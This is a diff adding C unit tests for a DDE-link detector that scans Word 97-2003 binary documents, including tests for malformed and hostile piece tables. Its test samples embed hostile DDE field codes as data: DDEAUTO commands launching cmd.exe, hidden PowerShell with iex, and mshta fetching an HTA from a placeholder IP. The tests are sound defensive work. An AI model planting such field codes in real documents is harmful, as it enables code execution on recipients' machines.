@@ -2,7 +2,8 @@
  * DDE links in documents (src/detect/docscan_dde.c): which links start a program; Word field
  * codes in WordprocessingML (w:fldSimple, complex fields split over runs, entities, other
  * namespace prefixes, nested fields, fields cut off by the end of the data); Excel's ddeLink;
- * RTF \fldinst with escapes and groups; DDE formulas in CSV and SYLK text; the preference for a
+ * RTF \fldinst with escapes and groups; DDE formulas in CSV and SYLK text; Word 97-2003 binary
+ * documents (the FIB, the piece table, fields in 8-bit and UTF-16 pieces); the preference for a
  * link that starts a program over an earlier harmless one; every prefix of each sample, from
  * exact-size heap copies (ASan sees a one-byte over-read), and hostile repetitions in linear time.
  */
@@ -418,12 +419,267 @@ static void test_text(void **state)
     free(b);
 }
 
+/* ---- Word 97-2003 binary documents -------------------------------------------------------- */
+
+#define DOC_WD 4096u /* WordDocument stream of the samples: the FIB, text from DOC_TEXT */
+#define DOC_TEXT 0x800u
+
+static void put16(uint8_t *p, uint16_t v)
+{
+    p[0] = (uint8_t)v;
+    p[1] = (uint8_t)(v >> 8);
+}
+
+static void put32(uint8_t *p, uint32_t v)
+{
+    put16(p, (uint16_t)v);
+    put16(p + 2, (uint16_t)(v >> 16));
+}
+
+/* A Word 97 FIB (csw 14, cslw 22, cbRgFcLcb 0x5D) with the flags and the Clx's place. */
+static void doc_fib(uint8_t *wd, uint16_t flags, uint32_t fc_clx, uint32_t lcb_clx)
+{
+    memset(wd, 0, DOC_WD);
+    put16(wd, 0xA5EC);
+    put16(wd + 2, 0x00C1);
+    put16(wd + 0x0A, flags);
+    put16(wd + 32, 14);
+    put16(wd + 62, 22);
+    put16(wd + 152, 0x5D);
+    put32(wd + 0x1A2, fc_clx);
+    put32(wd + 0x1A6, lcb_clx);
+}
+
+/* A piece of text: 8-bit (compressed) or UTF-16, placed at byte `at` of the WordDocument. */
+struct doc_piece {
+    const char *text;
+    bool utf16;
+    uint32_t at;
+};
+
+/* The text of the pieces written into wd, their piece table into clx (after a Prc entry when
+ * prc); returns the Clx's size. */
+static size_t doc_clx(uint8_t *wd, uint8_t *clx, const struct doc_piece *pc, size_t n, bool prc)
+{
+    size_t k = 0;
+    if (prc) {
+        clx[k++] = 0x01;
+        put16(clx + k, 3);
+        k += 2;
+        memcpy(clx + k, "\x03\x08\x01", 3); /* a GrpPrl of one Sprm, passed over */
+        k += 3;
+    }
+    clx[k++] = 0x02;
+    put32(clx + k, (uint32_t)(4 + 12 * n));
+    k += 4;
+    uint32_t cp = 0;
+    for (size_t i = 0; i < n; i++) {
+        size_t len = strlen(pc[i].text);
+        put32(clx + k + 4 * i, cp);
+        for (size_t j = 0; j < len; j++) {
+            if (pc[i].utf16)
+                put16(wd + pc[i].at + 2 * j, (uint8_t)pc[i].text[j]);
+            else
+                wd[pc[i].at + j] = (uint8_t)pc[i].text[j];
+        }
+        cp += (uint32_t)len;
+        uint8_t *pcd = clx + k + 4 * (n + 1) + 8 * i;
+        memset(pcd, 0, 8);
+        put32(pcd + 2, pc[i].utf16 ? pc[i].at : (pc[i].at * 2) | 0x40000000u);
+    }
+    put32(clx + k + 4 * n, cp);
+    return k + 4 * (n + 1) + 8 * n;
+}
+
+/* ds_doc_dde over exact-size copies of wd and clx, and of every prefix of the Clx and some of
+ * the stream (ASan sees a one-byte over-read). */
+static bool run_doc(const uint8_t *wd, size_t wd_len, const uint8_t *clx, size_t clx_len,
+                    struct ds_dde *out)
+{
+    uint8_t *w = dup_exact(wd, wd_len);
+    for (size_t k = 0; k < clx_len; k++) {
+        uint8_t *c = dup_exact(clx, k);
+        struct ds_dde x;
+        (void)ds_doc_dde(w, wd_len, c, k, &x);
+        free(c);
+    }
+    uint8_t *c = dup_exact(clx, clx_len);
+    for (size_t k = 0; k < wd_len; k += 97) {
+        uint8_t *wk = dup_exact(wd, k);
+        struct ds_dde x;
+        (void)ds_doc_dde(wk, k, c, clx_len, &x);
+        free(wk);
+    }
+    memset(out, 0x55, sizeof *out);
+    bool r = ds_doc_dde(w, wd_len, c, clx_len, out);
+    free(w);
+    free(c);
+    return r;
+}
+
+/* The FIB: the table stream and the Clx named, encrypted and foreign streams refused; the
+ * text through the piece table in 8-bit and UTF-16 pieces, a field split over pieces stored
+ * out of order, a Prc entry before the table, nested fields, harmless fields; hostile piece
+ * tables. */
+static void test_doc(void **state)
+{
+    (void)state;
+    uint8_t *wd = calloc(1, DOC_WD);
+    uint8_t clx[512];
+    struct ds_dde x;
+    struct ds_doc_fib fib;
+    assert_non_null(wd);
+    doc_fib(wd, 0x0200, 0x1234, 21);
+    assert_true(ds_doc_fib(wd, DOC_WD, &fib));
+    assert_int_equal(fib.table, 1);
+    assert_int_equal(fib.fc_clx, 0x1234);
+    assert_int_equal(fib.lcb_clx, 21);
+    doc_fib(wd, 0x0000, 7, 21);
+    assert_true(ds_doc_fib(wd, DOC_WD, &fib));
+    assert_int_equal(fib.table, 0);
+    assert_int_equal(fib.fc_clx, 7);
+    assert_true(ds_doc_fib(wd, 0x1AA, &fib));
+    assert_false(ds_doc_fib(wd, 0x1A9, &fib)); /* lcbClx cut off */
+    doc_fib(wd, 0x0300, 0, 21);                /* fEncrypted */
+    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
+    doc_fib(wd, 0x8200, 0, 21); /* fObfuscated */
+    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
+    doc_fib(wd, 0x0200, 0, 0); /* no piece table */
+    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
+    doc_fib(wd, 0x0200, 0, 21);
+    put16(wd + 152, 0x21); /* FibRgFcLcb too short to hold fcClx */
+    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
+    doc_fib(wd, 0x0200, 0, 21);
+    wd[0] = 0xEC; /* not a FIB */
+    wd[1] = 0xA4;
+    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
+
+    /* as Word writes it: one 8-bit piece, the code's backslashes doubled */
+    doc_fib(wd, 0x0200, 0, 0);
+    const struct doc_piece one[] = {
+        {"Dear customer\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "
+         "\x14Loading\x15\r",
+         false, DOC_TEXT},
+    };
+    size_t cl = doc_clx(wd, clx, one, 1, false);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
+    assert_string_equal(x.topic, "/k calc.exe");
+    assert_true(x.autoupdate);
+    assert_true(x.runs_program);
+    /* the code split over an 8-bit and a UTF-16 piece, stored the other way round, after a
+     * Prc entry */
+    doc_fib(wd, 0x0200, 0, 0);
+    const struct doc_piece split[] = {
+        {"Invoice \x13 DD", false, 0xC00},
+        {"EAUTO powershell.exe \"-w hidden -c iex\"\x15.", true, DOC_TEXT},
+    };
+    cl = doc_clx(wd, clx, split, 2, true);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "powershell.exe");
+    assert_string_equal(x.topic, "-w hidden -c iex");
+    assert_true(x.runs_program);
+    /* a nested field's result becomes part of the outer code, as Word evaluates it */
+    doc_fib(wd, 0x0200, 0, 0);
+    const struct doc_piece nest[] = {
+        {"\x13 DDE \x13 QUOTE 99\x14"
+         "c\x15md \"/c calc\"\x14x\x15",
+         false, DOC_TEXT},
+    };
+    cl = doc_clx(wd, clx, nest, 1, false);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "cmd");
+    assert_false(x.autoupdate);
+    assert_true(x.runs_program);
+    /* a harmless link to Excel is found but does not run a program; a later one that does is
+     * preferred */
+    doc_fib(wd, 0x0200, 0, 0);
+    const struct doc_piece link[] = {
+        {"\x13 DDE Excel \"C:\\\\q.xlsx\" R1C1 \x14"
+         "1\x15",
+         false, DOC_TEXT},
+    };
+    cl = doc_clx(wd, clx, link, 1, false);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "Excel");
+    assert_false(x.runs_program);
+    const struct doc_piece two[] = {
+        {"\x13 DDE Excel \"C:\\\\q.xlsx\" R1C1 \x14"
+         "1\x15",
+         false, DOC_TEXT},
+        {"\x13 DDEAUTO mshta http://198.51.100.7/a.hta \x15", true, 0xC00},
+    };
+    cl = doc_clx(wd, clx, two, 2, false);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "mshta");
+    assert_true(x.runs_program);
+    /* a field cut off by the end of the text counts as far as it came */
+    const struct doc_piece cut[] = {{"\x13 DDEAUTO cmd \"/c calc\"", false, DOC_TEXT}};
+    cl = doc_clx(wd, clx, cut, 1, false);
+    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
+    assert_string_equal(x.app, "cmd");
+    /* nothing: the words outside a field, other fields, a field begun too deep */
+    static const char *const none[] = {
+        "DDEAUTO cmd /c calc",
+        "\x13 HYPERLINK \"https://example.com\" \x14link\x15",
+        "\x13 DDEX cmd \x15",
+        "\x13\x13\x13\x13\x13\x13\x13\x13\x13 DDEAUTO cmd \x15\x15\x15\x15\x15\x15\x15\x15\x15",
+        "",
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++) {
+        doc_fib(wd, 0x0200, 0, 0);
+        const struct doc_piece pn[] = {{none[i], false, DOC_TEXT}};
+        cl = doc_clx(wd, clx, pn, 1, false);
+        TC_CHECK(none[i], !run_doc(wd, DOC_WD, clx, cl, &x));
+    }
+    tc_done();
+    /* malformed piece tables: no Pcdt, a negative Prc size, lcb not 4 + 12n, lcb past the
+     * data, a piece past the stream */
+    doc_fib(wd, 0x0200, 0, 0);
+    cl = doc_clx(wd, clx, one, 1, false);
+    clx[0] = 0x03;
+    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x));
+    cl = doc_clx(wd, clx, one, 1, true);
+    put16(clx + 1, 0x8000);
+    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x));
+    cl = doc_clx(wd, clx, one, 1, false);
+    put32(clx + 1, 17); /* one byte more than one piece needs, and there */
+    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl + 1, &x));
+    put32(clx + 1, 28);
+    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x));
+    cl = doc_clx(wd, clx, one, 1, false);
+    put32(clx + 5 + 8 + 2, (DOC_WD * 2) | 0x40000000u);
+    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x));
+    /* hostile: 400,000 pieces, each the whole of a stream of 256 KiB of field begins and
+     * codes, in time linear in the stream (unbounded, 10^11 characters) */
+    size_t big = 256u << 10, np = 400000;
+    uint8_t *bw = malloc(big), *bc = malloc(5 + 4 * (np + 1) + 8 * np);
+    assert_non_null(bw);
+    assert_non_null(bc);
+    for (size_t i = 0; i < big; i++)
+        bw[i] = i % 3 ? 'D' : 0x13;
+    bc[0] = 0x02;
+    put32(bc + 1, (uint32_t)(4 + 12 * np));
+    for (size_t i = 0; i <= np; i++)
+        put32(bc + 5 + 4 * i, (uint32_t)(i * big));
+    for (size_t i = 0; i < np; i++) {
+        uint8_t *pcd = bc + 5 + 4 * (np + 1) + 8 * i;
+        memset(pcd, 0, 8);
+        put32(pcd + 2, 0x40000000u);
+    }
+    assert_false(ds_doc_dde(bw, big, bc, 5 + 4 * (np + 1) + 8 * np, &x));
+    free(bw);
+    free(bc);
+    free(wd);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_runs_program), cmocka_unit_test(test_docx),
         cmocka_unit_test(test_docx_hostile), cmocka_unit_test(test_xlsx),
         cmocka_unit_test(test_rtf),          cmocka_unit_test(test_text),
+        cmocka_unit_test(test_doc),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
